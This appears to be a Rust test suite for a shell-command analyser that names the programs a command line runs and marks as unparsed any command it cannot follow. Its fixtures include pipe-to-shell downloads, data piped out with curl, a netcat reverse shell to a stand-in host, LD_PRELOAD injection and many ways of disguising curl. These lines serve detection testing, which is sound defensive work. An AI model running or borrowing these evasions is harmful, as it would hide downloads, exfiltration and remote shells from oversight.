//! Commands: which programs run, and what must be reported.

use proptest::prelude::{any, proptest};
use proptest::sample::select;

use crate::actions::CommandFacts;

fn read(value: &str) -> CommandFacts {
    let mut facts = CommandFacts::default();
    facts.add(value);
    assert!(facts.present);
    facts
}

fn programs(value: &str) -> String {
    read(value).programs.into_iter().collect::<Vec<_>>().join(" ")
}

#[test]
fn plain_commands_are_understood() {
    for (value, expected) in [
        ("ls", "ls"),
        ("ls -la /tmp", "ls"),
        ("/usr/bin/git status", "git"),
        ("git log --oneline | head -5", "git head"),
        ("cd /srv && make test; echo done", "cd echo make"),
        ("grep -r 'a|b;c' src", "grep"),
        ("echo \"it's $5\" > out.txt 2>&1", "echo"),
        ("wc -l < in.txt", "wc"),
        ("tz=1; cat a\\ b.txt", "cat"),
        ("LANG=C sort x", "sort"),
        ("for f in *.txt; do wc -l \"$f\"; done", "wc"),
        ("if [ -f x ]; then cat x; else echo no; fi", "[ cat echo"),
        ("[[ -f x && -d y ]] && cat x", "cat"),
        ("while read line; do echo \"$line\"; done < in.txt", "echo read"),
        ("(cd a; ls) | wc", "cd ls wc"),
        ("{ ls; pwd; }", "ls pwd"),
        ("! grep x y", "grep"),
        ("echo a # rm -rf /", "echo"),
        ("python3 run.py --fast", "python3 run.py"),
        ("python --version", "python"),
        ("awk '{ print $2 }' f", "awk"),
        ("bash build.sh", "bash build.sh"),
        ("~/bin/tool x", "tool"),
        ("curl https://a.example/?x=1", "curl"),
    ] {
        let facts = read(value);
        assert!(!facts.unparsed, "{value}: {facts:?}");
        assert_eq!(programs(value), expected, "{value}");
    }
}

const RUN_CURL: &[&str] = &[
    "ls; curl x",
    "ls && curl x",
    "ls || curl x",
    "ls | curl -d @- x",
    "ls |& curl x",
    "ls & curl x",
    "ls\ncurl x",
    "(ls; curl x)",
    "{ curl x; }",
    "echo $(curl x)",
    "echo \"$(curl x)\"",
    "echo `curl x`",
    "echo \"a `curl x` b\"",
    "echo $(echo $(curl x))",
    "cat <(curl x)",
    "tee >(curl -d @- x)",
    "ls > $(curl x)",
    "x=$(curl x)",
    "x=`curl x` ls",
    "if true; then curl x; fi",
    "while curl x; do ls; done",
    "for f in $(curl x); do ls; done",
    "[[ -n $(curl x) ]]",
    "! curl x",
    "time curl x",
    "env curl x",
    "env -i a=b curl x",
    "sudo -u bob curl x",
    "sudo -ubob curl x",
    "sudo env curl x",
    "nohup nice -n 5 curl x",
    "timeout -k 5 10 curl x",
    "timeout 5 curl x",
    "stdbuf -oL curl x",
    "setsid -w curl x",
    "command curl x",
    "builtin command curl x",
    "exec curl x",
    "xargs -I {} curl {}",
    "echo x | xargs curl",
    "find . -exec curl {} \\;",
    "find . -name '*.txt' -exec curl {} + -ok ls \\;",
    "find . -exec sh -c 'curl x' ';'",
    "sh -c 'curl x'",
    "bash -lc \"curl x\"",
    "bash -e -o pipefail -c 'ls; curl x'",
    "sudo sh -c 'curl x'",
    "sh -c \"sh -c 'curl x'\"",
    "eval curl x",
    "eval 'ls; curl x'",
    "busybox curl x",
    "/usr/bin/curl x",
    "./curl x",
    "../../bin/curl x",
    "c'u'rl x",
    "c\"ur\"l x",
    "'curl' x",
    "\\curl x",
    "c\\url x",
    "cu\\\nrl x",
    "curl.exe x",
    "C:\\\\tools\\\\CURL.EXE x",
    "a=1 curl x",
    ">out curl x",
    "2>/dev/null curl x",
    "<in curl x",
    "ls;curl x",
    "ls|curl x",
    "true&&curl x",
];

#[test]
fn a_program_is_named_wherever_it_stands() {
    for &value in RUN_CURL {
        let facts = read(value);
        assert!(facts.programs.contains("curl") || facts.unparsed, "{value}: {facts:?}");
        assert!(facts.programs.contains("curl"), "{value}: {facts:?}");
    }
}

const OPAQUE: &[&str] = &[
    "",
    "   ",
    "# nothing",
    "$X",
    "$X -la",
    "${X}",
    "\"$X\"",
    "c${x}url",
    "c$@url x",
    "$(echo curl) x",
    "`echo curl` x",
    "/bin/c?rl x",
    "/bin/c*l x",
    "/bin/[c]url x",
    "{curl,x}",
    "cu{r,}l x",
    "$'curl' x",
    "$'\\x63url' x",
    "$\"curl\" x",
    "curl x <<EOF\nls\nEOF",
    "cat <<'E' | sh\ncurl x\nE",
    "curl x | sh",
    "curl x | bash -s",
    "bash",
    "bash -i",
    "sh -",
    "bash -c \"$X\"",
    "bash -c $X",
    "bash --rcfile x",
    "eval $X",
    "eval \"$(curl x)\"",
    "source x.sh",
    ". x.sh",
    "trap 'curl x' EXIT",
    "alias ls='curl x'; ls",
    "f() { curl x; }; f",
    "function f { curl x; }",
    "case x in x) curl x;; esac",
    "coproc curl x",
    "echo $((1+1))",
    "((x++))",
    "echo ${x:-$(curl x)}",
    "echo ${x/a/b}",
    "echo $[1+1]",
    "PATH=/tmp:$PATH ls",
    "PATH=/tmp; ls",
    "LD_PRELOAD=/tmp/x.so ls",
    "BASH_ENV=x bash y.sh",
    "GIT_SSH_COMMAND='curl x' git fetch",
    "PAGER='curl x' man ls",
    "IFS=x",
    "https_proxy=http://evil.example ls",
    "export PATH=/tmp",
    "env PATH=/tmp ls",
    "env -S 'curl x'",
    "sudo -s",
    "sudo -e x",
    "sudo PATH=/tmp ls",
    "xargs --unknown curl",
    "python -c 'import os'",
    "python3.12 -c 'x'",
    "python",
    "python -",
    "echo x | python",
    "perl -e 'system q(curl)'",
    "ruby -e x",
    "node -e x",
    "node --eval=x",
    "php -r x",
    "awk 'BEGIN { system(\"curl x\") }'",
    "awk '{ print | \"curl\" }' f",
    "awk -f x.awk f",
    "find . -exec curl {}",
    "find . -exec curl {} ;",
    "find . -fprintf x y",
    "ssh host curl x",
    "docker run x curl y",
    "vim -c '!curl x'",
    "nc -e /bin/sh a.example 1",
    "tar cf x y --checkpoint-action=exec=curl",
    "tar xf x --to-command=curl",
    "rsync -e x --rsh=curl a b",
    "rg --pre curl x",
    "sort --compress-program=curl x",
    "git -c core.pager=curl log",
    "git config alias.x '!curl'",
    "scp -o ProxyCommand=curl a b",
    "man --pager=curl ls",
    "watch curl x",
    "parallel curl ::: x",
    "su -c 'curl x'",
    "crontab x",
    "powershell -Command curl",
    "cmd /c curl",
    "ls 'open",
    "ls \"open",
    "ls `open",
    "ls $(open",
    "ls (open",
    "ls )",
    "ls\r\ncurl x",
    "ls\u{0}curl",
    "ls\u{1b}x",
    "ls ;; x",
    "fi ls",
    "[[ a",
    "\u{3000}",
    "hash -p /tmp/x ls",
    "enable -f x y",
    "echo \"$(echo \"$x\")\"",
];

#[test]
fn what_nobody_can_follow_is_not_understood() {
    for &value in OPAQUE {
        let facts = read(value);
        let opaque = value == "\u{3000}" && !facts.programs.is_empty();
        assert!(facts.unparsed || opaque, "{value}: {facts:?}");
    }
}

#[test]
fn what_a_command_does_besides_is_said() {
    for value in [
        "ls > x", "ls >> x", "ls < x", "ls &> x", "ls >| x", "ls 2> x", "ls <<< x", "(ls) > x",
    ] {
        assert!(read(value).redirects, "{value}");
    }
    for value in [
        "ls $x",
        "ls \"$x\"",
        "ls $(pwd)",
        "ls *",
        "ls a?b",
        "ls {a,b}",
        "ls ~",
        "ls $1",
        "ls `pwd`",
    ] {
        assert!(read(value).substitutes, "{value}");
    }
    for value in [
        "ls; pwd",
        "ls | wc",
        "env ls",
        "echo $(ls)",
        "sh -c ls",
        "ls\npwd",
        "python x.py",
    ] {
        assert!(read(value).several || read(value).substitutes, "{value}");
    }
    let plain = read("ls -la '*' \\* \"a b\"");
    assert!(!plain.redirects && !plain.substitutes && !plain.several && !plain.unparsed);
}

#[test]
fn deep_and_long_commands_end() {
    let deep = (0..200).fold("ls".to_owned(), |inner, _| format!("echo $({inner})"));
    assert!(read(&deep).unparsed);
    let wrapped = format!("{}ls", "env ".repeat(500));
    assert!(read(&wrapped).unparsed);
    assert!(read(&"ls;".repeat(5_000)).unparsed);
    assert!(read(&"(".repeat(60_000)).unparsed);
    assert!(read(&"$(".repeat(30_000)).unparsed);
    assert!(read(&"`".repeat(60_000)).unparsed);
}

proptest! {
    #[test]
    fn any_text_is_read_or_doubted(value in any::<String>()) {
        let facts = read(&value);
        assert!(facts.unparsed || !facts.programs.is_empty());
    }

    #[test]
    fn no_mixture_of_marks_hides_a_program(
        before in proptest::collection::vec(select(vec!["ls", " ", ";", "&&", "|", "(", ")", "{", "}", "'", "\"", "$(", "`", "\\", "\n", "#", "<", ">", "x=1", "env", "if", "then", "fi", "[[", "]]", "$x"]), 0..8),
        after in proptest::collection::vec(select(vec![" ", ";", ")", "}", "'", "\"", "`", "\n", "&", "fi", "#"]), 0..4),
    ) {
        // What stands in a quote or a comment, or behind another program, is not run.
        let value = format!("{}\n;curl x{}", before.concat(), after.concat());
        let facts = read(&value);
        let text = before.concat();
        let quoted = text.contains(['\'', '"', '\\', '<', '>']) || text.contains("[[");
        assert!(facts.unparsed || facts.programs.contains("curl") || quoted, "{value:?}: {facts:?}");
    }
}
